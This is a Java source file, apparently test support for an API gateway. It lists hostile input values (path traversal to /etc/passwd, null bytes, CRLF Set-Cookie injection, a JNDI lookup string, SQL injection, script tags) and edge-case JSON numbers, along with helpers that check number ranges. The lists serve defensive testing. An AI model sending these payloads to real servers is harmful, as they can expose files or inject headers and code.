package io.bellwether.gateway.hostile;

import java.math.BigDecimal;
import java.math.BigInteger;
import java.util.List;
import java.util.Optional;
import java.util.regex.Pattern;

/** Values that have broken servers before, and what a JSON number among them is worth. */
public final class HostileValues {
    /** Names that a careless server would take for a place in its file system, as they go into a path. */
    public static final List<String> PATH_NAMES = List.of(
            "..",
            "...",
            "%2e%2e",
            "%252e%252e",
            "..%2f..%2fetc%2fpasswd",
            "..%252f..%252fetc%252fpasswd",
            "..%25252fetc",
            "%2fetc%2fpasswd",
            "..%5c..%5cwindows%5cwin.ini",
            "..\\..\\windows",
            "C:%5cwindows",
            "%5c%5chost%5cshare",
            "..;",
            "..;x=1",
            "x;jsessionid=1",
            "x%00",
            "x%00.json",
            "..%00",
            "..%ef%bc%8f..%ef%bc%8fetc",
            "%e2%80%ae",
            "%0d%0aSet-Cookie:%20x=1",
            "file:%2f%2f%2fetc%2fpasswd",
            "jar:file:%2fx.jar!%2fx",
            "~root",
            "$%7bjndi:ldap:%2f%2fhost%2fx%7d",
            "%24%7bHOME%7d",
            "%27%20or%201=1--",
            "%3cscript%3e",
            "x*",
            "x".repeat(300));

    /** The same kind of names as they stand in JSON, protobuf and metadata. */
    public static final List<String> NAMES = List.of(
            "../../etc/passwd",
            "/etc/passwd",
            "..%2f..%2fetc%2fpasswd",
            "..%252f..%252fetc",
            "..\\..\\windows\\win.ini",
            "C:\\windows",
            "\\\\host\\share",
            "..;/..;/etc",
            "x\u0000.json",
            "..\u0000",
            "\uff0e\uff0e\uff0fetc",
            "\u202e",
            "x\r\nSet-Cookie: x=1",
            "\u001b[2J",
            "file:///etc/passwd",
            "jar:file:/x.jar!/x",
            "${jndi:ldap://host/x}",
            "%s%n%x",
            "' or 1=1--",
            "<script>",
            "\ud83d\ude00",
            "x".repeat(300));

    /** Names that could not be decoded. */
    public static final List<String> UNDECODABLE_PATH_NAMES =
            List.of("%", "%2", "%zz", "x%", "%u002e", "%c0%ae", "%c0%af", "%ff", "%ed%a0%80", "%f8%88%80%80%80");

    /** Names that are more than one segment. */
    public static final List<String> SEVERAL_SEGMENTS = List.of(
            "../../etc/passwd", "..//..//etc", "/etc/passwd", "./m", "m/.", "m/..", "a/b/c", "../health/live", "//");

    /** What stands for a number in JSON, among it much that is none. */
    public static final List<String> NUMBERS = List.of(
            "-1",
            "-0",
            "2147483647",
            "2147483648",
            "-2147483649",
            "4294967296",
            "9007199254740993",
            "9223372036854775807",
            "9223372036854775808",
            "-9223372036854775808",
            "-9223372036854775809",
            "18446744073709551615",
            "18446744073709551616",
            "1.5",
            "1e3",
            "1e400",
            "-1e400",
            "1e2147483648",
            "4.9e-324",
            "1e-400",
            "9".repeat(400),
            "9".repeat(1001),
            "NaN",
            "-NaN",
            "Infinity",
            "-Infinity",
            "+1",
            "01",
            ".5",
            "5.",
            "0x10",
            "1_000",
            "\u0661",
            "\"1\"",
            "true",
            "null",
            "[]",
            "{}");

    private static final Pattern JSON_NUMBER = Pattern.compile("-?(0|[1-9][0-9]*)(\\.[0-9]+)?([eE][+-]?[0-9]+)?");
    private static final int DIGITS_MAX = 1000;

    private HostileValues() {}

    /** The value of a JSON number that a server takes; empty for everything else. */
    public static Optional<BigDecimal> number(String text) {
        if (!JSON_NUMBER.matcher(text).matches() || text.length() > DIGITS_MAX) {
            return Optional.empty();
        }
        return text.endsWith("e2147483648") ? Optional.empty() : Optional.of(new BigDecimal(text));
    }

    /** Whether a text is a whole number without fraction or exponent, of at least 0 and at most 2^bits - 1. */
    public static boolean unsigned(String text, int bits) {
        return whole(text).filter(n -> n.signum() >= 0 && n.bitLength() <= bits).isPresent();
    }

    /** Whether a text is a whole number without fraction or exponent that a signed integer of so many bits holds. */
    public static boolean signed(String text, int bits) {
        return whole(text).filter(n -> n.bitLength() < bits).isPresent();
    }

    private static Optional<BigInteger> whole(String text) {
        return text.matches("-?[0-9]+") ? number(text).map(BigDecimal::toBigIntegerExact) : Optional.empty();
    }

    public static boolean fp32(String text) {
        return number(text).filter(n -> Float.isFinite(n.floatValue())).isPresent();
    }

    public static boolean fp64(String text) {
        return number(text).filter(n -> Double.isFinite(n.doubleValue())).isPresent();
    }
}
